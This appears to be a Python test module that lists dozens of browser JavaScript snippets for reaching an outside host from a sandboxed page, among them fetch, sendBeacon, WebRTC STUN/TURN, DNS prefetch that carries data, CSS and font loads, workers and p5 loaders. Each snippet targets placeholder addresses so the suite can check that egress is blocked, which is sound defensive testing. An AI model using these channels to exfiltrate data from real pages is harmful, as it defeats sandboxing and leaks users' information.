"""Ways to let something out: requests, connections, names to resolve."""

from __future__ import annotations

from typing import Any

from tests.security.attack import BARE, Attack, element, framed, tried

EXTERNAL = "external_access"

PEER = (
    "const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:$HOST', 'turn:$HOST',"
    " 'turn:$HOST?transport=tcp'], username: 'a', credential: 'b' }] });"
    " peer.createDataChannel('c')"
)
OFFER = (
    "await peer.setLocalDescription(await peer.createOffer());"
    " await new Promise((go) => { peer.onicegatheringstatechange = go; })"
)


def _attack(name: str, tries: str, code: str, gate: str = EXTERNAL, **more: Any) -> Attack:
    options: dict[str, Any] = {"twin": True, **more}
    return Attack("network", name, tries, framed(code), gate, **options)


def _p5(call: str) -> str:
    return f"{call}.catch?.(() => {{}});"


NETWORK = (
    _attack(
        "fetch",
        "a request",
        tried('await fetch("$URL");', 'await fetch("$URL", {mode: "no-cors"});'),
    ),
    _attack(
        "fetch later",
        "a request when the page has gone",
        tried(
            'fetchLater("$URL", { activateAfter: 0 });', 'await fetch("$URL", { keepalive: true });'
        ),
    ),
    _attack(
        "XMLHttpRequest",
        "a request that blocks",
        tried('const ask = new XMLHttpRequest(); ask.open("GET", "$URL", false); ask.send();'),
    ),
    _attack("WebSocket", "a connection", tried('new WebSocket("ws://$HOST/");')),
    _attack("WebSocketStream", "a connection", tried('new WebSocketStream("ws://$HOST/");')),
    _attack("EventSource", "a stream", tried('new EventSource("$URL");')),
    _attack(
        "sendBeacon",
        "a message when the page goes",
        tried('navigator.sendBeacon("$URL", "x");')
        + 'addEventListener("pagehide", () => navigator.sendBeacon("$URL"));',
    ),
    _attack(
        "sendBeacon of the prototype",
        "the browser's own function instead of ours",
        tried('Object.getPrototypeOf(navigator).sendBeacon.call(navigator, "$URL");'),
    ),
    _attack("image", "an image's address", tried('new Image().src = "$URL";')),
    _attack("script element", "a script's address", tried(element("script", src="$URL"))),
    _attack(
        "style sheet element",
        "a sheet's address",
        tried(element("link", rel="stylesheet", href="$URL")),
    ),
    _attack("frame", "a frame's address", tried(element("iframe", src="$URL"))),
    _attack(
        "object and embed",
        "a plug-in's address",
        tried(element("object", data="$URL"), element("embed", src="$URL")),
    ),
    _attack(
        "media elements",
        "a film, a sound, a poster, subtitles",
        tried(
            element("video", src="$URL", poster="$URL"),
            element("audio", src="$URL"),
            'document.body.insertAdjacentHTML("beforeend", "<video><track src=$URL default>");',
        ),
    ),
    _attack(
        "pictures inside SVG",
        "image, use and feImage",
        tried(
            'document.body.insertAdjacentHTML("beforeend", "<svg><image href=$URL /><use'
            ' href=$URL#a /><filter id=f><feImage href=$URL /></filter></svg>");'
        ),
    ),
    _attack(
        "address in CSS",
        "a background, a cursor, an image set",
        tried(
            'document.body.style.background = "url($URL)";',
            'document.body.style.cursor = "url($URL), auto";',
            'document.body.style.listStyle = "url($URL)";',
        ),
        gate="harness_tampering",
    ),
    _attack(
        "import in CSS",
        "a sheet that names another",
        tried(
            'const sheet = document.createElement("style");'
            ' sheet.textContent = "@import url($URL);"; document.head.append(sheet);'
        ),
    ),
    _attack(
        "font of CSS",
        "a font's address",
        tried(
            'document.head.insertAdjacentHTML("beforeend", "<style>@font-face { font-family: f;'
            " src:"
            ' url($URL); } body { font-family: f; }</style>"); document.body.append("x");'
        ),
    ),
    _attack(
        "FontFace",
        "a font's address",
        tried(
            'const face = new FontFace("f", "url($URL)"); document.fonts.add(face); await'
            " face.load();"
        ),
    ),
    _attack(
        "WebRTC",
        "datagrams to a STUN and a TURN server",
        "\n".join(
            [
                BARE,
                tried(
                    f"{PEER}; {OFFER};",
                    f"await bare(`({{ async go() {{ {PEER}; {OFFER}; }} }}).go()`);",
                ),
            ]
        ),
    ),
    _attack(
        "WebTransport",
        "datagrams to a server",
        BARE
        + tried(
            'new WebTransport("https://$HOST/");',
            "await bare(`new WebTransport('https://$HOST/').ready`);",
        ),
    ),
    _attack(
        "import of a module",
        "a module's address",
        tried('await import("$URL");', 'import("$URL").catch(() => {});'),
    ),
    _attack(
        "prefetch",
        "a request ahead of time",
        tried(
            element("link", rel="prefetch", href="$URL"),
            element("link", rel="modulepreload", href="$URL"),
            element("link", rel="preload", **{"as": "image"}, href="$URL"),
            element("link", rel="prerender", href="$URL"),
        ),
    ),
    _attack(
        "preconnect",
        "a connection ahead of time",
        tried(
            element("link", rel="preconnect", href="$URL"),
            element("link", rel="preconnect", href="http://localhost:9/"),
            element("link", rel="preconnect", href="http://$NAME/"),
        ),
    ),
    _attack(
        "dns-prefetch",
        "a name to resolve, which carries data",
        tried(
            element("link", rel="dns-prefetch", href="//prefetch.$NAME"),
            'document.head.insertAdjacentHTML("beforeend",'
            ' "<meta http-equiv=x-dns-prefetch-control content=on><a'
            " href='//anchor.$NAME'>a</a>\");",
        ),
    ),
    _attack(
        "speculation rules",
        "a page ahead of time",
        tried(
            'const rules = document.createElement("script"); rules.type = "speculationrules";'
            ' rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["$URL"] }],'
            ' prerender: [{ source: "list", urls: ["$URL"] }] }); document.head.append(rules);'
        ),
    ),
    _attack(
        "form",
        "a form that is sent",
        tried(
            'document.body.insertAdjacentHTML("beforeend", "<form action=$URL><input'
            ' name=a></form>");'
            " document.forms[0].submit();",
            'document.body.insertAdjacentHTML("beforeend", "<form action=$URL'
            ' target=_blank></form>");'
            " document.forms[1].requestSubmit();",
        ),
    ),
    _attack(
        "link with ping",
        "a ping of a link that is followed",
        tried(
            'document.body.insertAdjacentHTML("beforeend",'
            " \"<a id=a href='#here' ping=$URL attributionsrc=$URL>a</a>\");"
            ' document.getElementById("a").click();',
            'document.body.insertAdjacentHTML("beforeend", "<a id=b href=$URL'
            ' target=_blank>b</a>");'
            ' document.getElementById("b").click();',
            'document.body.insertAdjacentHTML("beforeend", "<a id=c href=$URL download>c</a>");'
            ' document.getElementById("c").click();',
        ),
        ends=frozenset({"painted", "render_failed"}),
    ),
    _attack(
        "window.open",
        "a window with an address",
        BARE + tried('window.open("$URL");', "await bare(`open('$URL')`);", 'parent.open("$URL");'),
        gate="harness_tampering",
    ),
    _attack(
        "service worker",
        "a worker between page and network",
        tried('await navigator.serviceWorker.register("$URL");'),
    ),
    _attack(
        "worker with an address",
        "a worker's script",
        tried(
            'new Worker("$URL");',
            'new SharedWorker("$URL");',
            'new Worker(URL.createObjectURL(new Blob(["importScripts(`$URL`)"])));',
        ),
    ),
    _attack(
        "worklets",
        "a worklet's module",
        tried(
            'await CSS.paintWorklet.addModule("$URL");',
            'await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("$URL");',
        ),
    ),
    _attack(
        "p5's loaders",
        "what the library fetches",
        tried(
            *(
                _p5(f'{name}("$URL")')
                for name in ("loadImage", "loadJSON", "loadStrings", "httpGet")
            )
        )
        + tried(
            *(
                _p5(f'{name}("$URL")')
                for name in ("loadFont", "loadShader", "loadModel", "createImg")
            )
        ),
    ),
    _attack(
        "reports of a policy",
        "a report of what a policy of its own forbids",
        tried(
            'document.head.insertAdjacentHTML("beforeend", "<meta'
            " http-equiv=Content-Security-Policy"
            ' content=\\"img-src \'none\'; report-uri $URL; report-to x\\">");'
            ' new Image().src = "data:image/png;base64,AA";'
        ),
    ),
    _attack(
        "base address",
        "relative addresses that lead elsewhere",
        tried(
            element("base", href="$URL"), 'new Image().src = "relative.png";', "await fetch('a');"
        ),
    ),
    _attack(
        "identity, payment and icon",
        "files that the browser itself fetches",
        tried(
            "await Promise.race([navigator.credentials.get({ identity: { providers: [{"
            ' configURL: "$URL",'
            ' clientId: "1" }] } }), new Promise((go) => setTimeout(go, 50))]);',
            'new PaymentRequest([{ supportedMethods: "$URL" }], { total: { label: "a", amount:'
            ' { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => {});',
            element("link", rel="icon", href="$URL"),
            element("link", rel="manifest", href="$URL"),
        ),
    ),
    _attack(
        "functions of a bare frame",
        "functions that nobody has taken away",
        BARE
        + tried(
            "await bare(`fetch('$URL')`);",
            "await bare(`navigator.sendBeacon('$URL')`);",
            "await bare(`new WebSocket('ws://$HOST/').url`);",
            "await bare(`(new Image().src = '$URL')`);",
            "bare(`location.replace('$URL')`);",
        ),
    ),
    _attack(
        "XML that names another",
        "a style sheet or an entity of XML",
        tried(
            'const text = `<?xml-stylesheet href="$URL" type="text/xsl"?><!DOCTYPE a SYSTEM'
            ' "$URL"><a/>`;'
            ' const xml = new DOMParser().parseFromString(text, "text/xml");'
            " document.body.append(document.importNode(xml.documentElement, true));",
            'document.body.append(Object.assign(document.createElement("iframe"), { src:'
            " `data:text/xml,<?xml-stylesheet href='$URL' type='text/xsl'?><a/>` }));",
        ),
    ),
)
